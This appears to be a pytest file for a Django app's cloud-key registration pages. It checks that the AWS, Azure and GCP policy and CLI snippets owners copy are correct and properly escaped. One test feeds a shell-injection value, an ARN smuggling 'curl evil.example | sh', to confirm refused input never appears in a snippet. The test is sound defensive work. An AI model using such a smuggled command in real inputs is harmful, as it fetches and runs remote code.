"""The policies and commands on /encryption/register/<cloud>: what an owner copies must work as pasted.

Each snippet is read back out of the rendered page the way a browser shows it (HTML-unescaped), so these tests
see what the owner copies, not what ``encryption.snippets`` returned.
"""

from __future__ import annotations

import html
import json
import re
from typing import Any

import pytest
from django.test import override_settings
from django.urls import reverse

from encryption import services
from encryption.providers.base import KeyContext
from encryption.snippets import TENANT_CONTEXT_KEY, Snippet
from tenants.models import Tenant

pytestmark = pytest.mark.django_db

KEY_ARN = "arn:aws:kms:eu-west-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab"
ALIAS_ARN = "arn:aws:kms:eu-west-1:111122223333:alias/acme-kodori"
ROLE_ARN = "arn:aws:iam::111122223333:role/kodori-kms"
KODORI_ARN = "arn:aws:iam::999988887777:role/kodori-web"
AZURE_KEY = "https://contoso-keys.vault.azure.net/keys/tenant-kek/0123456789abcdef0123456789abcdef"
AZURE_HSM_KEY = "https://contoso-hsm.managedhsm.azure.net/keys/tenant-kek/0123456789abcdef0123456789abcdef"
DIRECTORY = "72f988bf-86f1-41af-91ab-2d7cd011db47"
KODORI_APP = "8c2b7e4a-1f0d-4c1e-9a57-3f6d2b9e0c11"
GCP_KEY = "projects/acme-prod/locations/europe-west1/keyRings/kodori/cryptoKeys/tenant-kek"
GCP_MEMBER = "principal://iam.googleapis.com/projects/123/locations/global/workloadIdentityPools/p/subject/s"
# A refused credential field makes the page render again (400) with what was typed, without registering.
REFUSED = {"client_secret": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"}
_CODE = re.compile(r'<code id="snippet-([a-z-]+)" data-language="([a-z]+)">(.*?)</code>', re.S)


@pytest.fixture
def cloud_tenant(tenant: Tenant) -> Tenant:
    Tenant.objects.filter(pk=tenant.pk).update(cloud_kms_enabled=True)
    tenant.refresh_from_db()
    return tenant


def snippets_in(page: str) -> dict[str, str]:
    """Each snippet's text as the browser shows it (and a Copy button copies), by slug."""
    found = {slug: html.unescape(text) for slug, _, text in _CODE.findall(page)}
    assert found, "no snippets on the page"
    return found


def json_snippets_in(page: str) -> dict[str, Any]:
    return {
        slug: json.loads(html.unescape(text)) for slug, lang, text in _CODE.findall(page) if lang == "json"
    }


def get_page(client: Any, cloud: str) -> str:
    r = client.get(reverse("encryption:register", args=[cloud]))
    assert r.status_code == 200
    return str(r.content.decode())


def post_page(client: Any, cloud: str, data: dict[str, str]) -> str:
    r = client.post(reverse("encryption:register", args=[cloud]), {**data, **REFUSED})
    assert r.status_code == 400
    return str(r.content.decode())


# --- AWS ----------------------------------------------------------------------------------------------------


@override_settings(KODORI_AWS_PRINCIPAL_ARN="")
def test_aws_snippets_show_placeholders_for_every_unknown_value(
    as_user: Any, owner: Any, tenant: Tenant
) -> None:
    page = get_page(as_user(owner), "aws")
    docs = json_snippets_in(page)
    trust = docs["aws-trust-policy"]["Statement"][0]
    assert trust["Principal"] == {"AWS": "<KODORI_PRINCIPAL_ARN>"}
    assert trust["Action"] == "sts:AssumeRole"
    assert trust["Condition"] == {"StringEquals": {"sts:ExternalId": "<YOUR_EXTERNAL_ID>"}}
    wrap, describe = docs["aws-permission-policy"]["Statement"]
    assert wrap["Resource"] == describe["Resource"] == "<YOUR_KEY_ARN>"
    assert wrap["Condition"] == {"StringEquals": {"kms:EncryptionContext:kodori:tenant": str(tenant.pk)}}
    # The placeholder is text on the page, not a tag the browser swallows.
    assert '"Resource": "&lt;YOUR_KEY_ARN&gt;"' in page
    assert "shown once Cloud KMS is switched on" in page
    assert (
        "Still to fill in: <code>&lt;KODORI_PRINCIPAL_ARN&gt;</code>, <code>&lt;YOUR_EXTERNAL_ID&gt;</code>"
        in page
    )


@override_settings(KODORI_AWS_PRINCIPAL_ARN=KODORI_ARN)
def test_aws_snippets_carry_kodoris_principal_the_external_id_the_tenant_and_the_key(
    as_user: Any, owner: Any, cloud_tenant: Tenant
) -> None:
    page = post_page(as_user(owner), "aws", {"key_id": KEY_ARN, "role_arn": ROLE_ARN})
    docs = json_snippets_in(page)
    trust = docs["aws-trust-policy"]["Statement"][0]
    assert trust["Principal"] == {"AWS": KODORI_ARN}
    assert trust["Condition"]["StringEquals"]["sts:ExternalId"] == services.external_id_for(cloud_tenant)
    wrap, describe = docs["aws-permission-policy"]["Statement"]
    assert wrap["Action"] == ["kms:Encrypt", "kms:Decrypt"]
    assert wrap["Resource"] == KEY_ARN
    assert wrap["Condition"]["StringEquals"] == {"kms:EncryptionContext:kodori:tenant": str(cloud_tenant.pk)}
    # DescribeKey carries no encryption context: a context condition on it would always deny.
    assert describe == {
        "Sid": "KodoriReadsThisKeysMetadata",
        "Effect": "Allow",
        "Action": "kms:DescribeKey",
        "Resource": KEY_ARN,
    }
    texts = snippets_in(page)
    assert not any(re.search(r"<[A-Z_]+>", text) for text in texts.values()), texts


def test_aws_an_alias_arn_is_never_the_policy_resource(
    as_user: Any, owner: Any, cloud_tenant: Tenant
) -> None:
    page = post_page(as_user(owner), "aws", {"key_id": ALIAS_ARN, "role_arn": ROLE_ARN})
    statements = json_snippets_in(page)["aws-permission-policy"]["Statement"]
    expected = "arn:aws:kms:eu-west-1:111122223333:key/<YOUR_KEY_ID>"
    assert [s["Resource"] for s in statements] == [expected, expected]
    assert "An alias is not a Resource IAM matches" in page


def test_the_condition_names_the_encryption_context_kodori_sends() -> None:
    assert KeyContext(tenant_id=42, key_version=3).as_dict()[TENANT_CONTEXT_KEY] == "42"


# --- Azure --------------------------------------------------------------------------------------------------


@override_settings(KODORI_AZURE_CLIENT_ID="")
def test_azure_snippets_show_placeholders_for_every_unknown_value(as_user: Any, owner: Any) -> None:
    texts = snippets_in(get_page(as_user(owner), "azure"))
    assert texts["azure-consent"] == (
        "https://login.microsoftonline.com/<YOUR_DIRECTORY_ID>/adminconsent?client_id=<KODORI_APP_ID>"
    )
    role = texts["azure-role"]
    assert role.startswith("az role assignment create \\\n")
    assert '--role "Key Vault Crypto Service Encryption User"' in role
    assert '--assignee "<KODORI_APP_ID>"' in role
    assert (
        '--scope "/subscriptions/<YOUR_SUBSCRIPTION_ID>/resourceGroups/<YOUR_RESOURCE_GROUP>'
        '/providers/Microsoft.KeyVault/vaults/<YOUR_VAULT>/keys/<YOUR_KEY_NAME>"'
    ) in role


@override_settings(KODORI_AZURE_CLIENT_ID=KODORI_APP)
def test_azure_snippets_carry_the_directory_kodoris_app_and_the_vault_and_key(
    as_user: Any, owner: Any, tenant: Tenant
) -> None:
    texts = snippets_in(post_page(as_user(owner), "azure", {"key_id": AZURE_KEY, "directory_id": DIRECTORY}))
    assert texts["azure-consent"] == (
        f"https://login.microsoftonline.com/{DIRECTORY}/adminconsent?client_id={KODORI_APP}"
    )
    role = texts["azure-role"]
    assert f'--assignee "{KODORI_APP}"' in role
    assert '/providers/Microsoft.KeyVault/vaults/contoso-keys/keys/tenant-kek"' in role
    assert "<YOUR_SUBSCRIPTION_ID>" in role and "<YOUR_RESOURCE_GROUP>" in role  # Kodori cannot know them


@override_settings(KODORI_AZURE_CLIENT_ID=KODORI_APP)
def test_azure_a_managed_hsm_key_gets_the_hsm_local_role(as_user: Any, owner: Any) -> None:
    texts = snippets_in(
        post_page(as_user(owner), "azure", {"key_id": AZURE_HSM_KEY, "directory_id": DIRECTORY})
    )
    assert texts["azure-role"] == (
        "az keyvault role assignment create \\\n"
        '  --hsm-name "contoso-hsm" \\\n'
        '  --role "Managed HSM Crypto Service Encryption User" \\\n'
        f'  --assignee "{KODORI_APP}" \\\n'
        '  --scope "/keys/tenant-kek"'
    )


# --- GCP ----------------------------------------------------------------------------------------------------


@override_settings(
    KODORI_GCP_PRINCIPAL="", KODORI_GCP_SERVICE_ACCOUNT="", KODORI_GCP_TENANT_SERVICE_ACCOUNT=""
)
def test_gcp_snippet_shows_placeholders_for_every_unknown_value(as_user: Any, owner: Any) -> None:
    text = snippets_in(get_page(as_user(owner), "gcp"))["gcp-bindings"]
    key = "projects/<YOUR_PROJECT_ID>/locations/<LOCATION>/keyRings/<KEY_RING>/cryptoKeys/<KEY_NAME>"
    assert text.count(f'gcloud kms keys add-iam-policy-binding "{key}" \\\n  --member="<KODORI_MEMBER>"') == 2
    assert '--role="roles/cloudkms.cryptoKeyEncrypterDecrypter"' in text
    assert '--role="roles/cloudkms.viewer"' in text
    assert "# Kodori's verification probe reads the key's metadata (GetCryptoKey" in text


@override_settings(
    KODORI_GCP_PRINCIPAL=GCP_MEMBER, KODORI_GCP_SERVICE_ACCOUNT="", KODORI_GCP_TENANT_SERVICE_ACCOUNT=""
)
def test_gcp_snippet_binds_kodoris_principal_on_the_cryptokey_not_a_version(as_user: Any, owner: Any) -> None:
    page = post_page(as_user(owner), "gcp", {"key_id": f"{GCP_KEY}/cryptoKeyVersions/3"})
    text = snippets_in(page)["gcp-bindings"]
    assert text.count(f'add-iam-policy-binding "{GCP_KEY}" \\\n  --member="{GCP_MEMBER}" \\\n') == 2
    assert "cryptoKeyVersions" not in text
    assert not re.search(r"<[A-Z_]+>", text)


@override_settings(
    KODORI_GCP_PRINCIPAL=GCP_MEMBER,
    KODORI_GCP_TENANT_SERVICE_ACCOUNT="kodori-t{tenant_id}@kodori-prod.iam.gserviceaccount.com",
)
def test_gcp_snippet_grants_the_tenants_own_service_account_when_kodori_impersonates_one(
    as_user: Any, owner: Any, tenant: Tenant
) -> None:
    page = get_page(as_user(owner), "gcp")
    member = f"serviceAccount:kodori-t{tenant.pk}@kodori-prod.iam.gserviceaccount.com"
    assert snippets_in(page)["gcp-bindings"].count(f'--member="{member}"') == 2
    assert GCP_MEMBER not in page


# --- Every cloud --------------------------------------------------------------------------------------------

CASES = [
    ("aws", {}),
    ("aws", {"key_id": KEY_ARN, "role_arn": ROLE_ARN}),
    ("aws", {"key_id": ALIAS_ARN, "role_arn": ROLE_ARN}),
    ("aws", {"key_id": "", "role_arn": ROLE_ARN}),
    ("aws", {"key_id": "not-an-arn", "role_arn": ROLE_ARN}),
    ("azure", {}),
    ("azure", {"key_id": AZURE_KEY, "directory_id": DIRECTORY}),
    ("gcp", {}),
    ("gcp", {"key_id": GCP_KEY}),
]


@pytest.mark.parametrize(("cloud", "data"), CASES)
def test_no_snippet_ever_has_an_empty_resource_or_value(
    as_user: Any, owner: Any, cloud_tenant: Tenant, cloud: str, data: dict[str, str]
) -> None:
    client = as_user(owner)
    page = post_page(client, cloud, data) if data else get_page(client, cloud)
    for slug, document in json_snippets_in(page).items():
        for statement in document["Statement"]:
            # A trust policy names a Principal instead; a permission policy always names its key.
            assert statement.get("Resource", "Principal" in statement), (slug, statement)
    for slug, text in snippets_in(page).items():
        assert '""' not in text, (slug, text)
    assert '"Resource": ""' not in page


@pytest.mark.parametrize(
    "typed",
    ['arn:aws:kms:eu-west-1:111122223333:key/x"; curl evil.example | sh; "', "AKIAIOSFODNN7EXAMPLE"],
    ids=["shell-injection", "access-key"],
)
def test_a_refused_identifier_never_reaches_a_snippet(
    as_user: Any, owner: Any, cloud_tenant: Tenant, typed: str
) -> None:
    for cloud in ("aws", "azure", "gcp"):
        page = post_page(
            as_user(owner), cloud, {"key_id": typed, "directory_id": typed, "role_arn": ROLE_ARN}
        )
        assert all(typed not in text for text in snippets_in(page).values())


def test_each_snippet_has_a_copy_button_for_its_code(as_user: Any, owner: Any) -> None:
    for cloud in ("aws", "azure", "gcp"):
        page = get_page(as_user(owner), cloud)
        for slug in snippets_in(page):
            assert f'data-copy-snippet="snippet-{slug}" hidden>Copy' in page  # copy.js shows it
        assert "kodori/copy.js" in page
        assert "onclick" not in page


def test_snippet_html_escapes_only_what_text_content_needs() -> None:
    snippet = Snippet("s", "S", "sh", "echo \"<A_B>\" && x='1'")
    assert snippet.html == "echo \"&lt;A_B&gt;\" &amp;&amp; x='1'"
    assert snippet.placeholders == ["<A_B>"]
